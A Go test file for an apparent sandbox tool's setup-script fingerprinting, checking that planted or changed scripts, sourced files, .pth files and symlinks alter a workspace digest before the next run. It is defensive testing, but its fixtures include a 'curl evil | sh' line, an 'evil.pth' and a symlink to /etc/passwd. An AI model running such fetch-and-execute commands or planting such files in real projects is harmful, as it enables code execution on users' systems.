package codefiles

import (
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/keel-run/keel/tool"
)

func newWS(t *testing.T, files map[string]string) *tool.Workspace {
	t.Helper()
	dir := t.TempDir()
	for name, content := range files {
		write(t, dir, name, content)
	}
	ws, err := tool.NewWorkspace(dir, "/workspace", nil)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { ws.Close() })
	return ws
}

func write(t *testing.T, dir, name, content string) {
	t.Helper()
	p := filepath.Join(dir, name)
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
}

// What a setup script runs, for each way a script names or loads
// another file: a change to any of it changes the digest, a change
// elsewhere does not. Each is a way a hijacked earlier run could plant
// code for the next run's setup.
func TestScriptRootsCoverWhatRuns(t *testing.T) {
	files := map[string]string{
		"scripts/setup.sh":        "#!/bin/sh\n. \"$(dirname \"$0\")/env.sh\"\nsource ./lib/common.sh\n[ -f local/hook.sh ] && . local/hook.sh\nfor f in setup.d/*.sh; do . \"$f\"; done\n",
		"scripts/env.sh":          "export A=1\n",
		"lib/common.sh":           "python3 tools/gen.py\n",
		"tools/gen.py":            "import helper\n",
		"tools/helper.py":         "X = 1\n",
		"setup.d/10-a.sh":         "true\n",
		"Makefile":                "include rules.mk\ndeps:\n\t./scripts/deps.sh\n",
		"rules.mk":                "X = 1\n",
		"scripts/deps.sh":         "true\n",
		"package.json":            `{"scripts": {"postinstall": "node scripts/post.js"}}`,
		"scripts/post.js":         "require('./x')\n",
		"requirements.txt":        "-e ./libs/foo\nrequests\n",
		"libs/foo/setup.py":       "from setuptools import setup\n",
		"README.md":               "docs",
		"src/app.py":              "print(1)\n",
		"data/scripts/setup.sh":   "not run",
		".venv/pyvenv.cfg":        "home = /usr/bin",
		".venv/bin/pip":           "#!/usr/bin/env python3",
		".venv/lib/site/evil.pth": "import os",
	}
	for _, c := range []struct {
		name    string
		script  string
		changes []string // each changes the digest
		same    []string // none does
	}{
		{"a script and what it sources", "bash scripts/setup.sh",
			[]string{"scripts/setup.sh", "scripts/env.sh", "lib/common.sh", "tools/gen.py", "tools/helper.py", "setup.d/10-a.sh", "setup.d/20-new.sh", "local/hook.sh"},
			[]string{"README.md", "src/app.py", "data/scripts/setup.sh", "Makefile"}},
		{"the workspace's path", "sh /workspace/scripts/env.sh", []string{"scripts/env.sh"}, []string{"scripts/setup.sh"}},
		{"make", "make deps", []string{"Makefile", "rules.mk", "scripts/deps.sh"}, []string{"README.md", "scripts/env.sh"}},
		{"npm", "npm ci", []string{"package.json", "scripts/post.js", ".npmrc"}, []string{"README.md"}},
		{"pip", "pip install -r requirements.txt", []string{"requirements.txt", "libs/foo/setup.py", "pyproject.toml"}, []string{"README.md", "src/app.py"}},
		{"python -m", "python3 -m venv .venv2", []string{"venv.py", "venv/__init__.py"}, []string{"README.md", "src/app.py"}},
		{"a virtual environment", ".venv/bin/pip install -e .", []string{".venv/lib/site/evil.pth", "setup.py"}, []string{"README.md"}},
		{"an option's value", "bash --rcfile=scripts/env.sh -c true", []string{"scripts/env.sh"}, []string{"README.md"}},
		{"nothing of the workspace", "echo ready; pip --version", nil, []string{"README.md", "scripts/setup.sh"}},
	} {
		t.Run(c.name, func(t *testing.T) {
			ws := newWS(t, files)
			roots := ScriptRoots(c.script, ws)
			if len(c.changes) == 0 && slices.ContainsFunc(roots, func(r Root) bool {
				return r.File != "" && r.File != "setup.py" && r.File != "setup.cfg" && r.File != "pyproject.toml"
			}) {
				t.Errorf("roots %v for a script that runs no file of the workspace", roots)
			}
			for _, f := range append(slices.Clone(c.changes), c.same...) {
				before := Fingerprint(ws, roots)
				write(t, ws.Root(), f, "changed by the run "+f)
				after := Fingerprint(ws, roots)
				changed := before.Sum() != after.Sum()
				want := slices.Contains(c.changes, f)
				if changed != want {
					t.Errorf("%s changed: digest changed %v, want %v (roots %v)", f, changed, want, keys(roots))
				}
				if want && len(Changes(before, after)) == 0 {
					t.Errorf("%s changed: no change named", f)
				}
			}
		})
	}
}

func keys(roots []Root) []string {
	var out []string
	for _, r := range roots {
		out = append(out, r.Key())
	}
	return out
}

// A link among the files counts by its target's name and by what it
// leads to: replacing a script by a link to other content, or pointing
// a link elsewhere, changes the digest; a link out of the workspace is
// never followed.
func TestFingerprintLinks(t *testing.T) {
	ws := newWS(t, map[string]string{"scripts/setup.sh": "true\n", "other/evil.sh": "curl x\n", "other/same.sh": "true\n"})
	roots := ScriptRoots("bash scripts/setup.sh", ws)
	before := Fingerprint(ws, roots)
	p := filepath.Join(ws.Root(), "scripts/setup.sh")
	for _, target := range []string{"../other/same.sh", "../other/evil.sh", "/etc/passwd"} {
		os.Remove(p)
		if err := os.Symlink(target, p); err != nil {
			t.Fatal(err)
		}
		now := Fingerprint(ws, roots)
		if now.Sum() == before.Sum() {
			t.Errorf("setup.sh -> %s: same digest", target)
		}
		if !slices.Contains(Changes(before, now), "scripts/setup.sh (changed)") {
			t.Errorf("setup.sh -> %s: changes %v", target, Changes(before, now))
		}
	}
}

// The cache of digests never hides a change: content rewritten with the
// same size and its modification time set back, a file renamed over it,
// a link; an unchanged file is not read again.
func TestCacheSeesEveryChange(t *testing.T) {
	// Every file counts as old enough to keep its digest.
	now = func() time.Time { return time.Now().Add(time.Hour) }
	t.Cleanup(func() { now = time.Now })
	ws := newWS(t, map[string]string{"node_modules/dep/index.js": "module.exports = 1;", "node_modules/dep/b.js": "b"})
	roots := []Root{{Dir: "node_modules"}}
	p := filepath.Join(ws.Root(), "node_modules/dep/index.js")
	fi, err := os.Stat(p)
	if err != nil {
		t.Fatal(err)
	}
	first := Fingerprint(ws, roots)
	n := hashed.Load()
	if again := Fingerprint(ws, roots); again.Sum() != first.Sum() || hashed.Load() != n {
		t.Fatalf("unchanged: digest %v, %d files read again", again.Sum() == first.Sum(), hashed.Load()-n)
	}
	check := func(what string) {
		t.Helper()
		now := Fingerprint(ws, roots)
		if now.Sum() == first.Sum() {
			t.Errorf("%s: same digest", what)
		}
		if !slices.Contains(Changes(first, now), "node_modules/dep/index.js (changed)") {
			t.Errorf("%s: changes %v", what, Changes(first, now))
		}
	}
	// Same size, same modification time.
	if err := os.WriteFile(p, []byte("module.exports = 2;"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.Chtimes(p, fi.ModTime(), fi.ModTime()); err != nil {
		t.Fatal(err)
	}
	check("rewritten in place, time set back")
	// Renamed over, same size and time.
	tmp := filepath.Join(ws.Root(), "x.tmp")
	if err := os.WriteFile(tmp, []byte("module.exports = 3;"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.Chtimes(tmp, fi.ModTime(), fi.ModTime()); err != nil {
		t.Fatal(err)
	}
	if err := os.Rename(tmp, p); err != nil {
		t.Fatal(err)
	}
	check("renamed over")
	// A link to other content.
	os.Remove(p)
	if err := os.Symlink("b.js", p); err != nil {
		t.Fatal(err)
	}
	check("replaced by a link")
}

// A file written just now is not kept in the cache: on a filesystem
// with coarse times a second write in the same tick would keep them.
func TestCacheSkipsRecentFiles(t *testing.T) {
	ws := newWS(t, map[string]string{"a.sh": "true"})
	roots := []Root{{File: "a.sh"}}
	Fingerprint(ws, roots)
	n := hashed.Load()
	Fingerprint(ws, roots)
	if hashed.Load() == n {
		t.Error("a file written within the last two seconds was not read again")
	}
}

// The store keeps a workspace's digests across runs: a new start is
// held against them for the roots they know, and a person's trust
// records the files as they are.
func TestStore(t *testing.T) {
	ws := newWS(t, map[string]string{"scripts/setup.sh": ". ./env.sh\n", "env.sh": "A=1\n"})
	st := &Store{File: filepath.Join(t.TempDir(), "state", "code-files.json")}
	roots := ScriptRoots("bash scripts/setup.sh", ws)
	now := Fingerprint(ws, roots)
	base, err := st.Load(ws)
	if err != nil {
		t.Fatal(err)
	}
	if Since(base, now).Sum() != now.Sum() {
		t.Fatal("nothing recorded, yet held")
	}
	if err := st.Update(ws, roots, now); err != nil {
		t.Fatal(err)
	}
	write(t, ws.Root(), "env.sh", "curl evil | sh\n")
	base, _ = st.Load(ws)
	now = Fingerprint(ws, roots)
	was := Since(base, now)
	if was.Sum() == now.Sum() || !slices.Contains(Changes(was, now), "env.sh (changed)") {
		t.Fatalf("env.sh changed since recorded: %v", Changes(was, now))
	}
	// A root the record does not know is a first start: not held.
	more := append(slices.Clone(roots), Root{File: "new.sh"})
	write(t, ws.Root(), "new.sh", "true")
	if got := Changes(Since(base, Fingerprint(ws, more)), Fingerprint(ws, more)); !slices.Equal(got, []string{"env.sh (changed)"}) {
		t.Errorf("changes with a new root = %v", got)
	}
	changed, err := st.Trust(ws)
	if err != nil || !slices.Contains(changed, "env.sh (changed)") {
		t.Fatalf("trust = %v, %v", changed, err)
	}
	base, _ = st.Load(ws)
	if Since(base, now).Sum() != now.Sum() {
		t.Error("held after the person trusted the files")
	}
	// Another workspace's record is not this one's.
	other := newWS(t, map[string]string{"scripts/setup.sh": "evil\n", "env.sh": "A=1\n"})
	base, _ = st.Load(other)
	if len(base.Roots) != 0 {
		t.Errorf("another workspace's record: %v", base.Roots)
	}
	if b, _ := os.ReadFile(st.File); !strings.Contains(string(b), ws.Root()) {
		t.Errorf("record does not name its workspace: %s", b)
	}
}
